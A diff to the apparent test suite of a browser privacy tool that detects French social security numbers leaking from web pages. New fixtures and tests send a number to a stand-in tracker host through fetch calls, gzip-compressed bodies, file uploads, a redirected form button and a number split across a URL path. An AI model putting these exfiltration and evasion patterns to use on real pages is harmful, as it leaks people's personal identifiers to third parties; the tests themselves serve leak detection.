@@ -22,6 +22,8 @@ const pages = {
     String.prototype.slice = () => '${NIR}'; JSON.stringify = () => '{}'; Map.prototype.get = () => 'x'; window.MutationObserver = null;
     Element.prototype.closest = () => { throw new Error('closest'); };
     </script><form id="f" method="post" action="http://portail.test/envoi"><input name="action"><input name="method"><input name="parentNode"><label>N° de sécurité sociale <input id="nir" name="nir"></label><button id="envoyer">x</button></form>`,
+  '/cache-methodes': `<form id="f" method="post" action="http://portail.test/envoi"><input name="querySelector"><input name="querySelectorAll"><input name="getAttribute"><label>N° de sécurité sociale <input name="nir"></label></form><button form="f" formaction="http://suivi.test/x">x</button>`,
+  '/1/85/05/78/999/901/39/x': form('http://portail.test/envoi'),
   [`/d/${NIR}`]: `<title>Dossier ${SPACED}</title><h1>x</h1><form method="post" action="http://portail.test/d/${NIR}?nir=${NIR}"><label>NIR de ${SPACED} <input name="nir_${NIR}" id="${NIR}" value="${NIR}"></label><button>x</button></form>`,
 };
 const leak = `() => fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: 'nir=${NIR}'}).then(() => 1)`;
@@ -169,6 +171,52 @@ describe.each(browsers)('in %s', (name) => {
     await popup.close();
     for (const text of [JSON.stringify(report), dom, await browser.storageDump()])
       expect(rawIn(text)).toEqual([]);
+  });
+
+  it('reads a form whose controls hide its methods, and a button outside of it', async () => {
+    page = await browser.page('https://portail.test/cache-methodes');
+    const to = (host: string) => (report: Report) =>
+      report.findings.some(
+        ({rule, category, destination}) =>
+          rule === 'plain-form' && category === 'nir' && destination === host,
+      );
+    await browser.reportWhen(
+      page,
+      'both targets',
+      (report) => to('portail.test')(report) && to('suivi.test')(report),
+    );
+  });
+
+  it('hides a number that the address splits', async () => {
+    page = await browser.page('http://portail.test/1/85/05/78/999/901/39/x');
+    const report = await browser.reportWhen(page, 'the address', observed('data-in-address'));
+    expect(JSON.stringify(report)).not.toMatch(/1\D{1,3}85\D{1,3}05/);
+    expect(await browser.storageDump()).not.toMatch(/1\D{1,3}85\D{1,3}05/);
+  });
+
+  it('counts a compressed body as unreadable', async () => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(`async () => {
+      const packed = new Blob([JSON.stringify({nir: '${NIR}', text: 'ordonnance '.repeat(99)})]).stream().pipeThrough(new CompressionStream('gzip'));
+      await fetch('https://suivi.test/gz', {method: 'POST', mode: 'no-cors', body: await new Response(packed).arrayBuffer()});
+    }`);
+    const report = await browser.reportWhen(
+      page,
+      'the unreadable send',
+      ({traffic}) => traffic.unreadable === 1,
+    );
+    expect(report.findings).toEqual([]);
+  });
+
+  it('counts a file that the browser does not show as read in part', async () => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(`async () => {
+      const data = new FormData();
+      data.set('nom', 'x');
+      data.set('ordonnance', new File(['nir ${NIR}'], 'ordonnance.txt', {type: 'text/plain'}));
+      await fetch('https://suivi.test/fichier', {method: 'POST', mode: 'no-cors', body: data});
+    }`);
+    await browser.reportWhen(page, 'the file', ({traffic}) => traffic.truncated + traffic.unreadable > 0);
   });
 
   it('cannot be spoken to by a page', async () => {
